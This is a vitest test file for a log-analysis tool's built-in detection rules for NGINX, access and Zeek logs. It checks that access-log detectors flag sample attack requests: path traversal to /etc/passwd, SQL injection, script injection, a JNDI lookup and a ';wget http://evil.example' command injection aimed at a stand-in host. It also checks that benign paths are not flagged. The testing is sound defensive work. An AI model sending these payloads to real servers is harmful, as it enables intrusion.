import { readFileSync } from 'node:fs';
import { describe, expect, test } from 'vitest';
import { detectorSchema } from '../../../src-core/model/rule.ts';
import { parseQuery } from '../../../src-core/query/parse.ts';
import { applicable, requiredFields } from '../../../src-core/rules/builtin.ts';
import { joinRules, parseRules } from '../../../src-core/rules/parse.ts';
import { meets } from '../../support/query-match.ts';

const load = (name: string): ReturnType<typeof parseRules> => parseRules(readFileSync(new URL(`../../../resources/rules/${name}`, import.meta.url), 'utf8'), name);
const sets = { nginx: load('nginx.yaml'), access: load('access-log.yaml'), zeek: load('zeek.yaml') };
const all = joinRules(Object.values(sets));
const idsFor = (...fields: readonly string[]): readonly string[] => applicable(all, (name) => fields.includes(name)).map(({ id }) => id);
const idsOf = ({ detectors }: { readonly detectors: readonly { readonly id: string }[] }): readonly string[] => detectors.map(({ id }) => id);

test('a rule needs its key, and every field of its query, aggregates and look-ups', () => {
  const rule = detectorSchema.parse({
    id: 'a', kind: 'threshold', by: ['k', 'k2'], where: 'a.b:1 OR (NOT c:* AND k:x) AND raw:foo AND _time:[2026-01-01 TO 2026-01-02]',
    window: { type: 'tumbling', size: '1m' }, emit: { n: 'count()', m: 'sum(s)' }, having: 'distinct(d) > 1 AND n > 2',
  });
  expect(new Set(requiredFields(rule))).toEqual(new Set(['k', 'k2', 'a.b', 'c', 's', 'd']));
  expect(requiredFields(detectorSchema.parse({ id: 'a', kind: 'indicator', fields: ['x', 'y'], values: ['a.test'], by: ['x'] }))).toEqual(['x', 'y']);
});

describe('the built-in rules', () => {
  test('all have a title and ids of their own', () => {
    expect(all.filter(({ title }) => title === undefined)).toEqual([]);
  });

  test('each set speaks about its own logs alone', () => {
    expect(idsFor('server', 'client_ip', 'method', 'status', 'request_time', 'host', 'country', '@timestamp')).toEqual(idsOf(sets.nginx));
    const common = ['remote_addr', 'time_local', 'method', 'path', 'http_version', 'status', 'body_bytes_sent'];
    expect(idsFor(...common, 'http_referer', 'http_user_agent')).toEqual(idsOf(sets.access));
    expect(idsFor(...common)).toEqual(idsOf(sets.access).filter((id) => id !== 'access-scanner' && id !== 'access-script-injection'));
    expect(idsFor('ts', 'uid', 'id.orig_h', 'id.orig_p', 'id.resp_h', 'id.resp_p', 'name', 'notice', 'peer', 'source')).toEqual(['zeek-weird-burst', 'zeek-weird-variety', 'zeek-weird']);
    expect(idsFor('ts', 'uid', 'id.orig_h', 'id.resp_h', 'note', 'msg', 'suppress_for')).toEqual(['zeek-notice-burst', 'zeek-notices']);
    expect(sets.access.detectors.filter((rule) => !requiredFields(rule).includes('remote_addr'))).toEqual([]);
  });

  test('the NGINX set is the four rules of the scenario', () => {
    expect(sets.nginx.detectors.map((rule) => ({ ...rule, title: undefined, severity: undefined }))).toEqual([
      { id: 'client-burst', kind: 'threshold', by: ['client_ip'], window: { type: 'hopping', size: 20e6, every: 1e6 }, having: 'count > 10' },
      { id: 'host-4xx', kind: 'threshold', by: ['host'], where: 'status:[400 TO 499]', window: { type: 'hopping', size: 30e6, every: 1e6 }, having: 'count > 15' },
      { id: 'success-by-country', kind: 'aggregate', by: ['country'], where: 'status:[200 TO 299]', window: { type: 'tumbling', size: 60e6 }, emit: { requests: 'count()' } },
      { id: 'latency-by-host', kind: 'aggregate', by: ['host'], window: { type: 'tumbling', size: 60e6 }, emit: { average_response_time: 'avg(request_time)' } },
    ]);
  });
});

describe('requests and the access-log rules that look at their text', () => {
  const byText = sets.access.detectors.filter(({ where }) => where !== undefined && /path:|http_user_agent:|method:/.test(where));
  const caught = (event: Readonly<Record<string, string>>): readonly string[] =>
    byText.filter(({ where }) => meets(parseQuery(where!), { method: 'GET', status: '404', http_user_agent: 'Mozilla/5.0', path: '/', ...event })).map(({ id }) => id);

  test.each([
    ['access-weak-paths', '/wp-login.php'],
    ['access-weak-paths', '/PhpMyAdmin/index.php'],
    ['access-weak-paths', '/cgi-bin/test.cgi'],
    ['access-weak-paths', '/.git/config'],
    ['access-weak-paths', '/app/.env'],
    ['access-path-traversal', '/a/../../x'],
    ['access-path-traversal', '/a/..%2f..%2fx'],
    ['access-path-traversal', '/%2e%2e/x'],
    ['access-path-traversal', '/x?f=/etc/passwd'],
    ['access-path-traversal', '/..\\..\\win.ini'],
    ['access-sql-injection', '/x?id=1+UNION+ALL+SELECT+1,2'],
    ['access-sql-injection', '/x?id=1%20union%20select%201'],
    ['access-sql-injection', '/x?id=1/**/union/**/select/**/1'],
    ['access-sql-injection', "/x?id=1'%20OR%20'1'='1"],
    ['access-sql-injection', '/x?id=1%27--'],
    ['access-sql-injection', '/x?id=1%20AND%20SLEEP(5)'],
    ['access-script-injection', '/x?q=<script>alert(1)</script>'],
    ['access-script-injection', '/x?q=%3Cimg%20src=x%20onerror=alert(1)%3E'],
    ['access-script-injection', '/x?q=$%7Bjndi:ldap://evil.example/a%7D'],
    ['access-script-injection', '/x?h=;wget+http://evil.example/a'],
    ['access-script-injection', '/index.php?s=/index/think/app/invokefunction'],
  ])('%s: %s', (id, path) => expect(caught({ path })).toContain(id));

  test('what else gives a request away', () => {
    expect(caught({ path: '/wp-login.php', method: 'POST', status: '200' })).toContain('access-login-attempts');
    expect(caught({ path: '/.env', status: '200' })).toContain('access-secrets-served');
    expect(caught({ path: '/.env', status: '404' })).not.toContain('access-secrets-served');
    expect(caught({ http_user_agent: 'sqlmap/1.7 (https://sqlmap.org)' })).toEqual(['access-scanner']);
    expect(caught({ http_user_agent: '${jndi:ldap://evil.example/a}' })).toEqual(['access-script-injection']);
    expect(caught({ method: 'TRACE' })).toEqual(['access-odd-methods']);
  });

  test.each([
    '/', '/blog/tags/shell?page=1', '/blog/tags/sysadmin', '/scripts//%22$%7BWEBLOC%7D/view.php/?file=$%7Blinkto%7D%5C%22', '/search?q=select+a+plan', "/search?q=rock+%27n%27+roll", '/shop?from=1&select=2',
    '/union-street', '/environment', '/gitlab-intro.html', '/images/..jpg', '/a...b', '/img?w=1&h=2;q=3', '/selection/from-scratch', '/docs/scripting', '/o%27reilly+or+manning', '/body-care', '/a?b=c|d',
  ])('nothing is wrong with %s', (path) => expect(caught({ path, status: '200' })).toEqual([]));
});
